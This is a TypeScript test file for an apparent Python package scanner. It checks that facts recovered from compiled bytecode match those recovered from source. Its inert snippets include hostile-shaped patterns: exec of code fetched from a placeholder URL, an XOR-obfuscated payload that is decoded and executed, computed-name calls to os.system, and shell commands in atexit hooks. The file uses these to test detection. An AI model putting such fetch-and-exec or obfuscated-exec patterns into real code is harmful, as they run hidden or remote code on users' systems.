/** Recovered source against the source that an interpreter compiled: both must tell the same. */
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, it } from 'node:test';
import type { Fact } from '../../src/contracts/fact.ts';
import { factsOf } from '../../src/pipeline.ts';
import { unpackBytes } from '../../src/unpack/unpack.ts';
import { pythons, runPython } from '../oracle/python.ts';
import { zip } from '../support/zip-writer.ts';

const COMPILER = path.join(import.meta.dirname, '../oracle/compile_files.py');
/** Modules of the standard library that are compared, smallest first; tiny ones hold nothing to compare. */
const MODULES = 200;
const SMALLEST = 1_500;
const AGREEMENT = 0.95;

/** Calls, flows, commands and computed names of one module that is all of a distribution. */
function told(name: string, data: string | Uint8Array): Set<string> {
  const archive = zip([
    { name, data },
    { name: 'own-1.0.dist-info/METADATA', data: 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n' },
  ]);
  const { facts } = factsOf('own-1.0-py3-none-any.whl', unpackBytes('own-1.0-py3-none-any.whl', archive));
  return new Set(facts.flatMap(statement));
}

function statement(fact: Fact): string[] {
  if (fact.kind === 'call') return [`call ${fact.api} ${fact.phase}`];
  if (fact.kind === 'command') return [`command ${fact.text} ${fact.phase}`];
  if (fact.kind === 'flow') {
    const { source, sink, phase } = fact;
    return [`flow ${source.kind} ${source.name} to ${sink.kind} ${sink.name} ${phase}`];
  }
  return [];
}

/** Compiled texts by name; those that the interpreter does not understand are missing. */
function compiled(python: string, texts: ReadonlyMap<string, string>): Map<string, Uint8Array> {
  const folder = mkdtempSync(path.join(tmpdir(), 'bytecode-oracle-'));
  try {
    const targets = [...texts].map(([name, text], i) => ({
      name,
      text,
      target: path.join(folder, `${i}.pyc`),
    }));
    const lines = targets.map(({ name, text, target }) => JSON.stringify([name, text, target]));
    runPython(python, [COMPILER], lines.join('\n'));
    return new Map(
      targets
        .filter(({ target }) => existsSync(target))
        .map(({ name, target }) => [name, Uint8Array.from(readFileSync(target))]),
    );
  } finally {
    rmSync(folder, { recursive: true });
  }
}

/** `import os; os.system("echo 1")`, each byte xored with 42. */
const CIPHER = Buffer.from(Buffer.from('import os; os.system("echo 1")').map((byte) => byte ^ 42)).toString(
  'hex',
);

/** Inert programs, and all that both of their forms must tell. */
const SNIPPETS: Record<string, string> = {
  imports:
    'import os.path as p, sys\nfrom base64 import b64decode as d, b16decode\nimport urllib.request\nd(b"QQ==")\nb16decode(b"41")\nurllib.request.urlopen("http://a.invalid/")\np.exists(sys.argv[0])\n',
  calls:
    'import subprocess\nsubprocess.run(["a", "b"], shell=False, check=True)\nsubprocess.Popen(*["a"], **{"shell": True})\n',
  chains: 'import requests\nexec(requests.get("http://a.invalid/x", timeout=3).text)\n',
  functions:
    'import os\ndef run(command, *rest, **more):\n    return os.system(command + "".join(rest))\nrun("echo 1", " 2")\n',
  methods:
    'import os\nclass Runner(object):\n    tool = "echo"\n    def __init__(self, word):\n        self.word = word\n    def run(self):\n        os.system(self.tool + " " + self.word)\nRunner("1").run()\n',
  lambdas: 'import os\nrun = lambda text: os.system("echo " + text)\nrun("1")\n',
  branches:
    'import os, sys\nif sys.platform == "win32":\n    name = "a"\nelif sys.platform == "darwin":\n    name = "b"\nelse:\n    name = "c"\nos.system("echo " + name)\n',
  conditions:
    'import os\ntext = os.environ.get("A") or "b"\nmode = "1" if text else "2"\nos.system("echo " + mode)\nos.remove("x")\n',
  exceptions:
    'import os\ntry:\n    text = open("/etc/hostname").read()\nexcept (IOError, OSError) as error:\n    text = ""\nfinally:\n    os.remove("x")\neval(text)\n',
  contexts:
    'import os\nwith open("a.sh", "w") as stream:\n    stream.write("echo 1")\nos.chmod("a.sh", 0o755)\nos.system("./a.sh")\n',
  loops:
    'import os\nfor name, (size, kind) in [("a", (1, 2)), ("b", (3, 4))]:\n    if size > 2:\n        break\n    os.system("echo " + name)\nwhile True:\n    os.remove("x")\n',
  comprehensions:
    'import os\ndata = [112, 115]\nexec("".join([chr(b - 1) for b in data if b]))\nos.system("".join(chr(b) for b in data))\nfound = {k: os.environ[k] for k in ("A", "B")}\n',
  ciphers: `data = bytearray.fromhex("${CIPHER}")\nexec(bytes(bytearray(b ^ 42 for b in data)).decode())\n`,
  decorators: 'import atexit, os\n@atexit.register\ndef last():\n    os.system("echo 1")\n',
  closures:
    'import os\ndef outer(word):\n    def inner():\n        os.system("echo " + word)\n    return inner\nouter("1")()\n',
  globals:
    'import os\nword = ""\ndef change():\n    global word\n    word = "1"\nchange()\nos.system("echo " + word)\n',
  'names computed': 'getattr(__import__("o" + "s"), "sys" + "tem")("echo 1")\n',
  'main block': 'import os\nif __name__ == "__main__":\n    os.system("echo 1")\n',
};

const interpreters = pythons();
if (interpreters.length === 0)
  it('compares with an interpreter', (context) => context.skip('no Python interpreter'));

for (const python of interpreters) {
  describe(`source recovered from bytecode of ${python}`, () => {
    const files = compiled(python, new Map(Object.entries(SNIPPETS)));
    for (const [name, source] of Object.entries(SNIPPETS)) {
      const file = files.get(name);
      if (file === undefined) continue;
      it(`tells the same of ${name}`, () => {
        const expected = told('own.py', source);
        assert.ok(expected.size > 0);
        assert.deepEqual([...told('own.pyc', file)].sort(), [...expected].sort());
      });
    }

    it('tells the same of the standard library', (context) => {
      const library = runPython(python, ['-c', 'import os; print(os.path.dirname(os.__file__))']).trim();
      const sources = new Map(
        readdirSync(library)
          .filter((name) => /^[a-z_]\w*\.py$/.test(name))
          .map((name) => ({ name, size: statSync(path.join(library, name)).size }))
          .filter(({ size }) => size >= SMALLEST)
          .sort((a, b) => a.size - b.size)
          .slice(0, MODULES)
          .map(({ name }) => [name, readFileSync(path.join(library, name), 'utf8')]),
      );
      let same = 0;
      const lost: string[] = [];
      const added: string[] = [];
      for (const [name, file] of compiled(python, sources)) {
        const expected = told(name, sources.get(name)!);
        const found = told(`${name}c`, file);
        for (const one of expected)
          if (found.has(one)) same++;
          else lost.push(`${name}: ${one}`);
        for (const one of found) if (!expected.has(one)) added.push(`${name}: ${one}`);
      }
      context.diagnostic(`${same} the same, ${lost.length} lost, ${added.length} added`);
      assert.ok(same > 200);
      assert.ok(same / (same + lost.length + added.length) >= AGREEMENT, [...lost, ...added].join('\n'));
    });
  });
}
